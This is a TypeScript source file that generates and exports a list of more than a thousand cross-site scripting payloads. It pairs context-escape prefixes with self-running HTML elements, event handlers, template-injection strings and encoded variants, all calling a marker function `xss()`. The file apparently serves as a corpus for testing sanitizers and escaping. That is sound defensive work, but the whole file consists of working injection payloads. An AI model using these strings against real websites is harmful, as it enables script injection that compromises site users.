//! A thousand texts that try to become code: every way out of the place where a text stands, before every element that
//! runs by itself. All of them call `xss()`.

const exits = ['', '">', "'>", '</script>', '</style>', '</textarea>', '</title>', '-->', '`', '${', '\\', '"/>', '</p>', '</template>', '\u2028'];
const runners = [
  '<script>xss()</script>', '<ScRiPt>xss()</ScRiPt>', '<script/x>xss()</script>', '<script>xss()//', '<scr<script>ipt>xss()</script>',
  '<img src=x onerror=xss()>', '<img/src=x/onerror=xss()>', '<img src=x onerror="xss()">', "<img src=x onerror='xss()'>", '<image src=x onerror=xss()>',
  '<svg onload=xss()>', '<svg/onload=xss()>', '<svg><script>xss()</script></svg>', '<svg><animate onbegin=xss() attributeName=x>',
  '<body onload=xss()>', '<iframe srcdoc="<script>parent.xss()</script>">', '<iframe src=javascript:parent.xss()>', '<iframe onload=xss()>',
  '<video><source onerror=xss()></video>', '<audio src=x onerror=xss()>', '<video src=x onerror=xss()>', '<object data=x onerror=xss()>',
  '<embed src=javascript:xss()>', '<object data="javascript:xss()">', '<details open ontoggle=xss()>x</details>',
  '<input autofocus onfocus=xss()>', '<select autofocus onfocus=xss()>', '<textarea autofocus onfocus=xss()>', '<a href=javascript:xss() autofocus onfocus=xss()>x</a>',
  '<marquee onstart=xss()>x</marquee>', '<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=xss()>x</b>',
  '<math><mtext></p><img src=x onerror=xss()></mtext></math>', '<form><button formaction=javascript:xss()>x</button></form>',
  '<base href=javascript:xss()//>', '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<link rel=stylesheet href=javascript:xss() onerror=xss()>',
  '<template><script>xss()</script></template>', '<noscript><img src=x onerror=xss()></noscript>', '<isindex type=image src=x onerror=xss()>',
  '<b onpointerover=xss() onmouseover=xss()>x</b>', '<slot onslotchange=xss()></slot>', '<dialog open onclose=xss()>x</dialog>',
  '&lt;script&gt;xss()&lt;/script&gt;', '&#60;img src=x onerror=xss()&#62;', '\\u003cimg src=x onerror=xss()\\u003e', '%3Cscript%3Exss()%3C/script%3E',
];
/** Ways out of a script's text, a template literal, an attribute, a template language. */
const others = [
  '`;xss();`', '`+xss()+`', '${xss()}', '\\${xss()}', '\\`;xss()//', "';xss();'", '";xss();"', "'-xss()-'", '"-xss()-"', '\\";xss()//', "\\';xss()//",
  '*/xss()/*', '//\nxss()', '\r\nxss()\r\n', '\u2028xss()\u2029', '];xss();[', '});xss();({', '</script><script>xss()//', '<!--<script>', ']]><script>xss()</script>',
  '" onmouseover=xss() x="', "' onmouseover=xss() x='", '" autofocus onfocus=xss() x="', '" style=animation-name:x onanimationstart=xss() "',
  '{{constructor.constructor("xss()")()}}', '{{7*7}}', '#{xss()}', '<%= xss() %>', '[[xss()]]', '@import "javascript:xss()"', 'expression(xss())',
  'javascript:xss()', 'java\tscript:xss()', 'data:text/html,<script>xss()</script>', '%d %i ${xss()}', '{ $count }', '{ xss() }', '\u202E<script>xss()</script>',
];

/** At least a thousand, none twice. */
export const vectors: string[] = [...new Set([
  ...others, ...runners.flatMap((runner) => exits.map((exit) => exit + runner)),
  ...runners.slice(0, 30).flatMap((runner) => exits.slice(1).map((exit) => `x ${exit} ${runner} ${exit}`)),
])];
